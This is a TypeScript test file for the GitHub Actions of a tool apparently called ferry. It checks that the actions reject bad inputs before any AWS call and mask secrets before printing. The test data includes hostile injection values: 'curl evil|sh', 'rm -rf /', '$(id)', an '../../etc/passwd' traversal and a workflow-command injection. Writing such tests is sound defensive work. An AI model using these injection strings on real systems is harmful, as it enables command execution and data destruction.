// Each action's committed dist, run as the runner runs it: bad and hostile inputs are refused with an error naming the
// input before any AWS call; secrets are masked before anything is printed and never printed in clear.
import { cpSync, mkdirSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { testCredentials } from '../../support/aws.ts';
import { tempDir } from '../../support/ferry-cli.ts';
import { type ActionResult, runAction } from '../../support/run-action.ts';

/** Counts every request that reaches it: an action refusing its inputs must send none. */
let recorder: Server;
let recorderUrl: string;
let requestsSeen = 0;

beforeAll(async () => {
  recorder = createServer((request, response) => {
    requestsSeen += 1;
    request.resume();
    response.writeHead(500).end();
  });
  await new Promise<void>((resolve) => recorder.listen(0, '127.0.0.1', resolve));
  const address = recorder.address();
  recorderUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
});

afterAll(async () => {
  await new Promise((resolve) => recorder.close(resolve));
});

const awsEnv = {
  AWS_ACCESS_KEY_ID: testCredentials.accessKeyId,
  AWS_SECRET_ACCESS_KEY: testCredentials.secretAccessKey,
};

/** Lines that are workflow commands (`::name::…`): a hostile value must not be able to start one. */
function commandNames(stdout: string): string[] {
  return stdout
    .split('\n')
    .filter((line) => line.startsWith('::'))
    .map((line) => /^::([a-z-]+)/.exec(line)?.[1] ?? line);
}

/** The data of a workflow command line, unescaped as the runner does (%25 %0D %0A). */
function commandData(line: string): string {
  const data = line.slice(line.indexOf('::', 2) + 2);
  return data.replaceAll('%0A', '\n').replaceAll('%0D', '\r').replaceAll('%25', '%');
}

async function runRefused(
  action: string,
  inputs: Record<string, string>,
  env: Record<string, string> = awsEnv,
): Promise<ActionResult> {
  const before = requestsSeen;
  const result = await runAction({
    action,
    inputs: { 'aws-region': 'us-east-1', 'aws-endpoint-url': recorderUrl, ...inputs },
    env,
  });
  expect(requestsSeen - before, 'requests sent before the inputs were checked').toBe(0);
  return result;
}

const hostile = 'x"; curl evil|sh';

describe.each([
  ['deploy', 'stack-name', { 'stack-name': hostile }, /is not a stack name/],
  ['deploy', 'stack-name', { 'stack-name': '' }, /is required/],
  ['deploy', 'template', { template: '../../etc/passwd' }, /is not a file inside the workspace/],
  [
    'deploy',
    'template',
    { template: 'missing/ferry.yaml' },
    /cannot read .*missing\/ferry\.yaml: no such file/,
  ],
  [
    'deploy',
    'parameters',
    { parameters: 'FleetName=prod\n`id`=1' },
    /is not Key=Value|template parameter name/,
  ],
  [
    'deploy',
    'source-buckets',
    { 'source-buckets': 'media, Bad_Bucket' },
    /"Bad_Bucket" is not an S3 bucket name/,
  ],
  ['deploy', 'parameters', { parameters: 'DestinationBucketNames=ok-bucket,a..b' }, /two adjacent dots/],
  ['deploy', 'config', { config: '../ferry.yaml' }, /is not a file inside the workspace/],
  ['deploy', 'timeout-minutes', { 'timeout-minutes': '0' }, /is not a whole number above 0/],
  ['deploy', 'aws-region', { 'aws-region': 'us-east-1; rm -rf /' }, /is not an AWS Region/],
  ['start-lister', 'mapping', { mapping: '' }, /is required/],
  ['start-lister', 'mapping', { mapping: '$(id)' }, /is not a mapping id/],
  ['start-lister', 'run-id', { mapping: 'media', 'run-id': '../other' }, /run id "\.\.\/other"/],
  ['start-lister', 'mode', { mapping: 'media', mode: 'fast' }, /is not one of copy, incremental, sync, full/],
  ['start-lister', 'mode', { mapping: 'media', mode: 'sync\nfull' }, /"sync\\nfull" is not one of/],
  ['start-lister', 'wait', { mapping: 'media', wait: 'yes' }, /is not true or false/],
  [
    'start-lister',
    'interval',
    { mapping: 'media', wait: 'true', interval: '`sleep 9`' },
    /is not a duration/,
  ],
  ['scale-workers', 'desired', { desired: '-1' }, /is not a whole number/],
  ['scale-workers', 'desired', {}, /is required unless run-id and target-duration/],
  ['scale-workers', 'desired', { desired: '2', 'run-id': 'r1', 'target-duration': '2h' }, /not both/],
  ['scale-workers', 'target-duration', { 'run-id': 'r1', 'target-duration': '2 days' }, /is not a duration/],
  ['await-run', 'run-id', { 'run-id': 'r1\n::stop-commands::x' }, /run id "r1\\n::stop-commands::x"/],
  ['await-run', 'run-id', {}, /is required/],
  [
    'await-run',
    'failure-threshold',
    { 'run-id': 'r1', 'failure-threshold': '101%' },
    /failure threshold "101%"/,
  ],
  ['await-run', 'max-wait-minutes', { 'run-id': 'r1', 'max-wait-minutes': '1.5' }, /is not a whole number/],
  [
    'await-run',
    'aws-endpoint-url',
    { 'run-id': 'r1', 'aws-endpoint-url': 'http://u:p@host' },
    /without a user name/,
  ],
  ['redrive', 'run-id', { 'run-id': '`id`' }, /run id "`id`"/],
  ['redrive', 'mapping', { mapping: 'Media' }, /is not a mapping id/],
  ['redrive', 'all', { all: 'everything' }, /is not true or false/],
])('%s refuses a bad %s', (action, input, inputs, message) => {
  it(`(${JSON.stringify(inputs)})`, async () => {
    const result = await runRefused(action, inputs);
    expect(result.code).toBe(1);
    const errors = result.stdout.split('\n').filter((line) => line.startsWith('::error::'));
    expect(errors).toHaveLength(1);
    const error = commandData(errors[0] ?? '');
    expect(error.startsWith(`input ${input}: `), error).toBe(true);
    expect(error).toMatch(message);
    expect(commandNames(result.stdout).every((name) => name === 'add-mask' || name === 'error')).toBe(true);
    expect(result.stderr).toBe('');
    expect(result.outputs).toEqual({});
  });
});

describe('secrets', () => {
  const secrets = {
    AWS_ACCESS_KEY_ID: 'AKIAFERRYSECRETTEST1',
    AWS_SECRET_ACCESS_KEY: 'wJalrXUtnFEMI/K7MDENG/ferrySecretValue1',
    AWS_SESSION_TOKEN: 'FQoGZXIvYXdzEFerrySessionTokenValue',
  };
  const secretInputs = {
    'aws-secret-access-key': 'input-secret-value-42',
    'github-token': 'ghs_ferryTokenValue',
  };
  const allSecrets = [...Object.values(secrets), ...Object.values(secretInputs), 'hunter2-ferry'];

  function expectMaskedFirst(result: ActionResult): void {
    const lines = result.stdout.split('\n').filter((line) => line !== '');
    const masks = lines.filter((line) => line.startsWith('::add-mask::')).map((line) => line.slice(12));
    for (const secret of allSecrets) expect(masks, secret).toContain(secret);
    const firstOther = lines.findIndex((line) => !line.startsWith('::add-mask::'));
    expect(firstOther, 'a line was printed before the masks').toBeGreaterThanOrEqual(masks.length);
    const rest = [
      ...lines.slice(firstOther),
      result.stderr,
      result.summary,
      JSON.stringify(result.outputs),
    ].join('\n');
    for (const secret of allSecrets) expect(rest, secret).not.toContain(secret);
  }

  it('are masked before anything is printed, on an input error', async () => {
    const result = await runRefused(
      'deploy',
      {
        ...secretInputs,
        parameters: 'FleetName=prod\nAlarmPassword=hunter2-ferry',
        'stack-name': hostile,
      },
      secrets,
    );
    expect(result.code).toBe(1);
    expectMaskedFirst(result);
  });

  it('are masked, and never printed, when the action gets as far as AWS (a stack that is not there)', async () => {
    const result = await runAction({
      action: 'await-run',
      inputs: {
        ...secretInputs,
        parameters: 'AlarmPassword=hunter2-ferry',
        'stack-name': 'ferry-not-deployed',
        'run-id': 'media-1',
        'aws-region': 'us-east-1',
        'aws-endpoint-url': inject('motoSource'),
      },
      env: secrets,
    });
    expect(result.code).toBe(1);
    expect(result.stdout).toMatch(/::error::Config: .*ferry-not-deployed/);
    expectMaskedFirst(result);
  });
});

describe('deploy before its first call', () => {
  it('refuses a ferry.yaml the engine refuses, naming file, line and field, before deploying anything', async () => {
    const workspace = tempDir('deploy-config');
    writeFileSync(join(workspace, 'ferry.yaml'), 'endpoints:\n  src: { region: 7 }\nmappings: []\n');
    const before = requestsSeen;
    const result = await runAction({
      action: 'deploy',
      workspace,
      inputs: { config: 'ferry.yaml', 'aws-region': 'us-east-1', 'aws-endpoint-url': recorderUrl },
      env: awsEnv,
    });
    expect(requestsSeen - before).toBe(0);
    expect(result.code).toBe(1);
    expect(result.stdout).toMatch(/^::error::Config: ferry\.yaml:\d+:\d+: /m);
  });

  it('finds the template shipped with it and its own engine bundle, then reports the AWS error by class', async () => {
    const denying = createServer((request, response) => {
      request.resume();
      response
        .writeHead(403, { 'content-type': 'text/xml' })
        .end(
          '<ErrorResponse><Error><Type>Sender</Type><Code>AccessDenied</Code><Message>not for you</Message></Error></ErrorResponse>',
        );
    });
    await new Promise<void>((resolve) => denying.listen(0, '127.0.0.1', resolve));
    const address = denying.address();
    try {
      const result = await runAction({
        action: 'deploy',
        inputs: {
          'aws-region': 'us-east-1',
          'aws-endpoint-url': `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`,
        },
        env: awsEnv,
      });
      expect(result.code).toBe(1);
      expect(result.stdout).toMatch(
        /^::error::AccessDenied: CloudFormation GetTemplateSummary.*not for you/m,
      );
    } finally {
      await new Promise((resolve) => denying.close(resolve));
    }
  });
});

describe('a dist copied away from the repository', () => {
  it('runs with no node_modules and no package.json around it', async () => {
    const directory = join(tempDir('lone-action'), 'await-run');
    mkdirSync(directory);
    const actionDirectory = new URL('../../../actions/await-run/', import.meta.url).pathname;
    cpSync(join(actionDirectory, 'action.yml'), join(directory, 'action.yml'));
    cpSync(join(actionDirectory, 'dist'), join(directory, 'dist'), { recursive: true });
    writeFileSync(join(directory, 'README'), 'no package.json here\n');
    const result = await runAction({
      action: directory,
      inputs: {
        'stack-name': 'ferry-nowhere',
        'run-id': 'r1',
        'aws-region': 'us-east-1',
        'aws-endpoint-url': inject('motoSource'),
      },
      env: awsEnv,
    });
    expect(result.stderr).toBe('');
    expect(result.code).toBe(1);
    expect(result.stdout).toMatch(/::error::Config: .*ferry-nowhere/);
  });
});
